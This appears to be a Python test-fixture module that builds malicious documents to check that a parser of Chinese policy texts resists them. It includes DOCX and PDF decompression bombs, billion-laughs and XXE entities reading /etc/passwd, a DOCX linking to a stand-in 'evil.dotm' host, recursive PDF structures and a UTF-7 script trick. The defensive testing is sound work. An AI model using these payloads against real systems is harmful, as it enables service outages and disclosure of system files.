"""Documents that expand, nest or stretch without end, or are not what they claim: ZIP bombs, PDF forms in a circle."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise

from tests.pdf_bytes import pdf_of


def _zip_of(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def _docx_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        with packed.open("word/document.xml", "w", force_zip64=True) as inside:
            inside.write(b"<w:document><w:body><w:p>")
            for _ in range(2_000):
                inside.write(b" " * 1_000_000)
            inside.write(b"</w:p></w:body></w:document>")
    return stream.getvalue()


_W = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
_WORDS = "".join(f"<w:p><w:r><w:t>{n}.办好学校，方便就近入学，配齐音体美教师。</w:t></w:r></w:p>" for n in range(1, 6))


def _docx(body: str = _WORDS, head: str = "", more: dict[str, bytes | str] | None = None) -> Callable[[], bytes]:
    """Makes a DOCX with this body and further parts."""

    def made() -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr("word/document.xml", f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>")
            for name, content in (more or {}).items():
                package.writestr(name, content)
        return stream.getvalue()

    return made


def _numbered(level: str, start: str, shape: str = "（%1）") -> Callable[[], bytes]:
    """Makes a DOCX with a numbered list: the level, the first number and the template of the numbers."""
    numbering = (
        f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="{level}"><w:start w:val="{start}"/>'
        f'<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="{shape}"/></w:lvl></w:abstractNum>'
        f'<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    mark = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return _docx(_WORDS.replace("<w:p>", mark), more={"word/numbering.xml": numbering})


def _overlapping() -> bytes:
    """A ZIP whose directory lists the same hundred kilobytes two thousand times, each time as another part."""
    packed = _docx(more={"word/media/a.bin": b"\0" * 20_000_000})()
    directory, end = packed.index(b"PK\x01\x02"), packed.index(b"PK\x05\x06")
    entries = packed[directory:end]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    many = entries + b"".join(last.replace(b"word/media/a.bin", b"word/media/%05d" % n) for n in range(2_000))
    return (
        packed[:directory]
        + many
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2_002, 2_002, len(many), directory, 0)
    )


def _stream(content: bytes, head: bytes = b"") -> bytes:
    """A stream object of a PDF."""
    return b"<< /Length %d %s >> stream\n%s\nendstream" % (len(content), head, content)


def _unpacking(megabytes: int, times: int = 1) -> Callable[[], bytes]:
    """Makes a PDF of one page whose content, compressed several times over, unpacks to so many megabytes."""

    def made() -> bytes:
        packing = zlib.compressobj(9)
        packed = b"".join(packing.compress(b"0 0 m " * 170_000) for _ in range(megabytes)) + packing.flush()
        for _ in range(times - 1):
            packed = zlib.compress(packed, 9)
        head = b"/Filter [%s]" % (b"/FlateDecode " * times)
        page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 9 9] >>"
        return pdf_of(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            page,
            _stream(packed, head),
        )

    return made


def _pdf_circle() -> bytes:
    """A PDF whose page trees are each other's children."""
    page = b"<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [2 0 R 3 0 R] >>"
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>", page)


def _pdf_forms() -> bytes:
    """A PDF whose page draws a form that draws itself twice."""
    form = _stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >>"
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> >>"
    )
    return pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        page,
        form,
        _stream(b"/F Do"),
    )


def _pdf(pages: int) -> bytes:
    """A PDF that claims so many pages, all of them one object."""
    return pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, b"3 0 R " * pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


_LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghij"))
_ENTITIES = f"""<?xml version="1.0"?><!DOCTYPE html [
<!ENTITY a "aaaaaaaaaa">{_LAUGHS}<!ENTITY x SYSTEM "file:///etc/passwd">]>
<html><body><p>一、总则 &j; &x;</p><p>1.做好教育工作。</p></body></html>"""

_TABLE = (
    "<table><tr><td rowspan=99999999 colspan=99999999>一、做好教育工作<td>市教育局"
    "<tr><td>1.办好学校<td>市教育局</table>"
)
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ELSEWHERE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" TargetMode="External" Type="{_TYPES}/attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm"/>'
    f'<Relationship Id="rId2" Type="{_TYPES}/aFChunk" Target="file:///etc/passwd"/></Relationships>'
)
_DOCX_LAUGHS = "<!DOCTYPE d [" + _ENTITIES.split("[", 1)[1].split("]>")[0] + "]>"
_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 2**31 - 1, 2**31 - 1) + b"\x08\x06\0\0\0"

DOCUMENTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a ZIP bomb of 2 GB as DOCX": ("bomb.docx", _docx_bomb),
    "a DOCX in a DOCX in a DOCX": (
        "nested.docx",
        _docx(more={"word/embeddings/a.docx": _docx(more={"word/embeddings/b.docx": _docx()()})()}),
    ),
    "a DOCX whose text is a ZIP": ("nested.zip.docx", lambda: _zip_of({"word/document.xml": _docx()()})),
    "a ZIP that names the same bytes two thousand times": ("overlap.docx", _overlapping),
    "a DOCX that leads to other hosts and files": (
        "leads.docx",
        _docx(_WORDS + '<w:altChunk r:id="rId2"/>', more={"word/_rels/document.xml.rels": _ELSEWHERE}),
    ),
    "a DOCX with entities that expand and read files": ("entities.docx", _docx(_WORDS + "&j;&x;", _DOCX_LAUGHS)),
    "a DOCX nested ten thousand deep": ("deep.docx", _docx("<w:sdt>" * 10_000 + _WORDS + "</w:sdt>" * 10_000)),
    "a DOCX nested two hundred deep": ("deep.docx", _docx("<w:sdt>" * 200 + _WORDS + "</w:sdt>" * 200)),
    "a DOCX of a hundred thousand empty parts": ("parts.docx", _docx(more={f"word/{n}": "" for n in range(100_000)})),
    "a DOCX with a picture of four thousand million pixels a side": (
        "picture.docx",
        _docx(more={"word/media/a.png": _PNG}),
    ),
    "a DOCX with numbers that are none": ("number.docx", _numbered("x", "一")),
    "a DOCX with a number of five thousand digits": ("number.docx", _numbered("0", "9" * 5_000)),
    "a DOCX with a number below zero": ("number.docx", _numbered("-1", "-5")),
    "a DOCX with a number of ten million": ("number.docx", _numbered("0", "10000000")),
    "a DOCX with a number of a hundred thousand places": ("number.docx", _numbered("0", "1", "%1" * 100_000)),
    "a page packed with gzip": ("page.html", lambda: gzip.compress(_ENTITIES.encode() * 1_000)),
    "a picture of four thousand million pixels a side": ("picture.png", lambda: _PNG),
    "a picture named as a PDF": ("picture.pdf", lambda: _PNG),
    "a PDF whose page unpacks to 3 GB": ("unpacks.pdf", _unpacking(3_000)),
    "a PDF whose page unpacks to 60 MB": ("unpacks.pdf", _unpacking(60)),
    "a PDF whose page is packed 6 times, 1 GB at last": ("unpacks.pdf", _unpacking(1_000, 6)),
    "a PDF whose pages lead to each other": ("circle.pdf", _pdf_circle),
    "a PDF with a form that draws itself": ("forms.pdf", _pdf_forms),
    "a table with cells a hundred million wide": ("page.html", lambda: f"<html>{_TABLE * 300}".encode()),
    "a page of ten thousand tables in each other": (
        "page.html",
        lambda: b"<html>" + _TABLE.encode() + b"<table><tr><td>" * 10_000,
    ),
    "a page with a hundred thousand attributes": (
        "page.html",
        lambda: b"<html><body " + b"".join(b"a%d=b " % n for n in range(100_000)) + "><p>一、总则".encode(),
    ),
    "a page that says it is in an encoding that is none": (
        "page.html",
        lambda: "<html><meta charset=utf-7><p>一、总则 +ADw-script+AD4-".encode() * 50,
    ),
    "a PDF with a million pages": ("pages.pdf", lambda: _pdf(1_000_000)),
    "a PDF with five thousand pages": ("pages.pdf", lambda: _pdf(5_000)),
    "a page with entities that expand and read files": ("page.html", _ENTITIES.encode),
    "a page nested a hundred thousand deep": ("page.html", lambda: b"<div>" * 100_000 + "一、总则".encode()),
    "a page of 40 MB": ("page.html", lambda: b"<p>" + "一、做好工作。<br>".encode() * 1_500_000),
    "a text of 49 MB in one line": ("text.txt", lambda: "一、做好教育工作；".encode() * 1_800_000),
    "a text of 14 MB in one line": ("text.txt", lambda: "一、做好教育工作；".encode() * 530_000),
    "a text of four million characters": ("text.txt", lambda: "一、做好教育工作。\n1.办好学校。\n".encode() * 200_000),
    "a text of 60 MB": ("text.txt", lambda: "字".encode() * 20_000_000),
    "a text of brackets": ("text.txt", lambda: "一、工作\n".encode() + "（".encode() * 1_000_000),
    "a text of numbers": ("text.txt", lambda: "一、工作\n".encode() + b"1." * 1_000_000),
    "a text of one numeral": ("text.txt", lambda: "一、工作\n".encode() + "一".encode() * 1_000_000),
    "a text with nine hundred thousand blanks in an item": (
        "text.txt",
        lambda: (
            "一、办好学校。\n1.新建小学".encode()
            + b" " * 900_000
            + "三所，方便就近入学，让家长少跑路，让学生少走路，饭热菜香。\n2.改善食堂。".encode()
        ),
    ),
    "a text of nine hundred thousand dots": (
        "text.txt",
        lambda: (
            "目录\n一、办好学校".encode()
            + b"." * 900_000
            + "1\n一、办好学校，方便就近入学，让家长少跑路，让学生少走路，饭热菜香。\n".encode()
        ),
    ),
    "a text of three hundred thousand brackets of an office": (
        "text.txt",
        lambda: "一、办好学校。\n".encode() + "（市教育局）".encode() * 150_000,
    ),
    "a text of white space": ("text.txt", lambda: "一、工作".encode() + b" \n" * 4_000_000 + "二、结束".encode()),
}
